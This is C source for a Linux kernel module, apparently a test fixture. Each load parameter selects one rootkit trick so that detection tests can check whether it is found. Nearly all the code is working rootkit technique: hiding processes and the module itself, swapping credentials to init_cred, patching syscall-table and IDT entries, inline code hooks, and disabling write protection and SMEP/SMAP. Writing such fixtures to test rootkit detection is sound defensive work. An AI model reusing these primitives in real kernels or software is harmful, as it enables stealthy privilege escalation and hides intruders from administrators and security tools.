// SPDX-License-Identifier: GPL-2.0-only
/*
 * What rootkits do, one trick at a time, so that tests can see whether it is found: loaded as
 *
 *	load rootkit.ko do=TRICK [pid=PID] [at=ADDRESS] [to=ADDRESS] [hide=N]
 *
 * It is built against the types of the very kernel that it is for (vmlinux.h, made from the
 *kernel's BTF), without that kernel's headers: there are none for kernels that a distribution no
 *longer has. Nothing of it runs later, but for hooks of functions that the tests call: what is
 *patched otherwise is not executed. It has no way back: the guest ends with the test.
 */
#include "vmlinux.h"

#define ENOENT	 2
#define EINVAL	 22
#define CR0_WP	 (1ul << 16)
#define HOOK_LEN 5

#define section(name) __attribute__((section(name), used))

static const char
	modinfo[] section(".modinfo") = "license=GPL\0name=rootkit\0vermagic=any\0depends=";

static int start(void);

struct module __this_module section(".gnu.linkonce.this_module") __attribute__((aligned(64))) = {
	.name = "rootkit",
	.init = start,
};

extern const struct kernel_param_ops param_ops_ulong, param_ops_charp;

static char *trick;
static unsigned long pid, at, to, hide;

#define PARAM(name_, ops_, variable)                                                               \
	static const struct kernel_param param_##name_ section("__param")                          \
		__attribute__((aligned(sizeof(void *)))) = { .name = #name_,                       \
							     .mod = &__this_module,                \
							     .ops = &(ops_),                       \
							     .level = -1,                          \
							     .arg = &(variable) }

PARAM(do, param_ops_charp, trick);
PARAM(pid, param_ops_ulong, pid);
PARAM(at, param_ops_ulong, at);
PARAM(to, param_ops_ulong, to);
PARAM(hide, param_ops_ulong, hide);

extern int strcmp(const char *a, const char *b);
extern struct pid *find_vpid(int nr);
extern struct task_struct *pid_task(struct pid *pid, enum pid_type type);
extern void *idr_remove(struct idr *idr, unsigned long id);
extern struct pid_namespace init_pid_ns;
extern void kobject_del(struct kobject *kobj);
extern void rb_erase(struct rb_node *node, struct rb_root *root);
extern int register_kprobe(struct kprobe *p);
extern int register_ftrace_function(struct ftrace_ops *ops);
extern int ftrace_set_filter_ip(struct ftrace_ops *ops, unsigned long ip, int remove, int reset);

/* Write protection does not hold the kernel back when CR0.WP is off. */
static void protect(bool on)
{
	unsigned long cr0;

	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	cr0 = on ? cr0 | CR0_WP : cr0 & ~CR0_WP;
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static void poke(unsigned long where, const void *what, unsigned long n)
{
	volatile char *p = (volatile char *)where;
	const char *q = what;
	unsigned long flags;

	asm volatile("pushf; pop %0; cli" : "=rm"(flags) : : "memory");
	protect(false);
	while (n--)
		*p++ = *q++;
	protect(true);
	asm volatile("push %0; popf" : : "rm"(flags) : "memory", "cc");
}

static void unlink(struct list_head *entry)
{
	entry->next->prev = entry->prev;
	entry->prev->next = entry->next;
	entry->next = entry->prev = entry;
}

/* What hooks lead to. */
static long hooked(void)
{
	return 0;
}

static void aim(unsigned long where, unsigned char opcode)
{
	unsigned char code[HOOK_LEN] = { opcode };
	int distance = (int)((unsigned long)hooked - (where + HOOK_LEN));

	__builtin_memcpy(code + 1, &distance, sizeof(distance));
	poke(where, code, sizeof(code));
}

/* ---- tasks ---- */

static struct task_struct *task(void)
{
	return pid_task(find_vpid((int)pid), PIDTYPE_PID);
}

/* Out of the list of processes: /proc shows it still, what walks the list does not. */
static int task_list(void)
{
	struct task_struct *t = task();

	if (!t)
		return -ENOENT;
	unlink(&t->tasks);
	return 0;
}

/* Out of the numbers: it cannot be signalled, and is not in /proc. */
static int task_pid(void)
{
	if (!task())
		return -ENOENT;
	idr_remove(&init_pid_ns.idr, pid);
	return 0;
}

static int task_tree(void)
{
	struct task_struct *t = task();

	if (!t)
		return -ENOENT;
	unlink(&t->sibling);
	return 0;
}

/* Out of all three, as diligent ones do; it sleeps or runs on. */
static int task_all(void)
{
	struct task_struct *t = task();

	if (!t)
		return -ENOENT;
	unlink(&t->tasks);
	unlink(&t->sibling);
	idr_remove(&init_pid_ns.idr, pid);
	return 0;
}

/* The rights of the kernel's first thread; at: init_cred. */
static int cred(void)
{
	struct task_struct *t = task();

	if (!t || !at)
		return -ENOENT;
	*(const struct cred **)&t->real_cred = (const struct cred *)at;
	*(const struct cred **)&t->cred = (const struct cred *)at;
	return 0;
}

/* ---- itself ---- */

static void leave_list(void)
{
	unlink(&__this_module.list);
}

static void leave_sysfs(void)
{
	kobject_del(&__this_module.mkobj.kobj);
}

/* at: mod_tree. A latch tree is two trees. */
static void leave_tree(void)
{
	struct rb_root *tree = ((struct mod_tree_root *)at)->root.tree;
	unsigned int i;
#ifdef HAS_MODULE_MEM
	for (i = 0; i < sizeof(__this_module.mem) / sizeof(__this_module.mem[0]); i++) {
		struct mod_tree_node *n = &__this_module.mem[i].mtn;

		if (!__this_module.mem[i].size)
			continue;
		rb_erase(&n->node.node[0], &tree[0]);
		rb_erase(&n->node.node[1], &tree[1]);
	}
#else
	struct mod_tree_node *n = &__this_module.core_layout.mtn;

	for (i = 0; i < 2; i++)
		rb_erase(&n->node.node[i], &tree[i]);
#endif
}

/* hide: 1 = the list, 2 = and /sys/module, 3 = and the tree, 4 = and its struct module's own traces
 */
static void hide_itself(void)
{
	if (hide >= 1)
		leave_list();
	if (hide >= 2)
		leave_sysfs();
	if (hide >= 3)
		leave_tree();
	if (hide >= 4)
		__this_module.mkobj.mod = 0;
}

static int nothing(void)
{
	return 0;
}

/* ---- tables ---- */

/* at: the entry */
static int word(void)
{
	unsigned long v = to ? to : (unsigned long)hooked;

	poke(at, &v, sizeof(v));
	return 0;
}

/* at: the gate in idt_table */
static int gate(void)
{
	unsigned long v = to ? to : (unsigned long)hooked;
	unsigned short low = v & 0xffff, middle = v >> 16 & 0xffff;
	unsigned int high = v >> 32;

	poke(at, &low, 2);
	poke(at + 6, &middle, 2);
	poke(at + 8, &high, 4);
	return 0;
}

/* ---- text ---- */

/* at: a function that is not called; a jump in place of its first instruction */
static int jump(void)
{
	aim(at, 0xe9);
	return 0;
}

/* mov $hooked, %rax; jmp *%rax */
static int movabs(void)
{
	unsigned char code[12] = { 0x48, 0xb8, [10] = 0xff, [11] = 0xe0 };
	unsigned long v = (unsigned long)hooked;

	__builtin_memcpy(code + 2, &v, sizeof(v));
	poke(at, code, sizeof(code));
	return 0;
}

/* push $hooked; ret */
static int push(void)
{
	unsigned char code[6] = { 0x68, [5] = 0xc3 };
	int v = (int)(unsigned long)hooked;

	__builtin_memcpy(code + 1, &v, sizeof(v));
	poke(at, code, sizeof(code));
	return 0;
}

static int breakpoint(void)
{
	unsigned char int3 = 0xcc;

	poke(at, &int3, 1);
	return 0;
}

/*
 * at: x64_sys_call, to: the function whose call is turned; the switch has `jmp` or `call` at its
 * leaves, or a conditional jump that is one.
 */
static int leaf(void)
{
	unsigned long p;

	for (p = at; p < at + 0x4000; p++) {
		unsigned char b = *(unsigned char *)p;

		if ((b == 0xe9 || b == 0xe8) && p + HOOK_LEN + *(int *)(p + 1) == to) {
			aim(p, b);
			return 0;
		}
	}
	return -ENOENT;
}

/* A few bytes that nothing leads out of: only comparing the text finds it. */
static int bytes(void)
{
	static const unsigned char code[] = { 0x31, 0xc0, 0x90 }; /* xor %eax, %eax; nop */

	poke(at, code, sizeof(code));
	return 0;
}

/* ---- hooks that the kernel helps with ---- */

#ifdef HAS_FTRACE_REGS_ARG
static void callback(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
		     struct ftrace_regs *regs)
#else
static void callback(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
		     struct pt_regs *regs)
#endif
{
}

static struct ftrace_ops ops = {
	.func = callback,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
};

/* at: the call for ftrace in the function */
static int ftrace(void)
{
	int err = ftrace_set_filter_ip(&ops, at, 0, 0);

	return err ? err : register_ftrace_function(&ops);
}

static int handler(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe probe = { .pre_handler = handler };

static int kprobe(void)
{
	probe.addr = (kprobe_opcode_t *)at;
	return register_kprobe(&probe);
}

/* ---- registers ---- */

static int write_protect(void)
{
	protect(false);
	return 0;
}

static int smep(void)
{
	unsigned long cr4;

	asm volatile("mov %%cr4, %0" : "=r"(cr4));
	asm volatile("mov %0, %%cr4" : : "r"(cr4 & ~(3ul << 20)));
	return 0;
}

/* at: idt_table, of which each CPU that does this gets a copy */
static int idtr(void)
{
	static unsigned char copy[4096] __attribute__((aligned(4096)));
	struct {
		unsigned short limit;
		unsigned long base;
	} __attribute__((packed)) desc = { sizeof(copy) - 1, (unsigned long)copy };

	__builtin_memcpy(copy, (void *)at, sizeof(copy));
	asm volatile("lidt %0" : : "m"(desc));
	return 0;
}

static const struct {
	const char *name;
	int (*run)(void);
} tricks[] = {
	{ "nothing", nothing },
	{ "task_list", task_list },
	{ "task_pid", task_pid },
	{ "task_tree", task_tree },
	{ "task_all", task_all },
	{ "cred", cred },
	{ "word", word },
	{ "gate", gate },
	{ "jump", jump },
	{ "movabs", movabs },
	{ "push", push },
	{ "breakpoint", breakpoint },
	{ "leaf", leaf },
	{ "bytes", bytes },
	{ "ftrace", ftrace },
	{ "kprobe", kprobe },
	{ "write_protect", write_protect },
	{ "smep", smep },
	{ "idtr", idtr },
};

static int start(void)
{
	unsigned int i;

	for (i = 0; trick && i < sizeof(tricks) / sizeof(tricks[0]); i++) {
		int err;

		if (strcmp(trick, tricks[i].name))
			continue;
		err = tricks[i].run();
		if (!err)
			hide_itself();
		return err;
	}
	return -EINVAL;
}
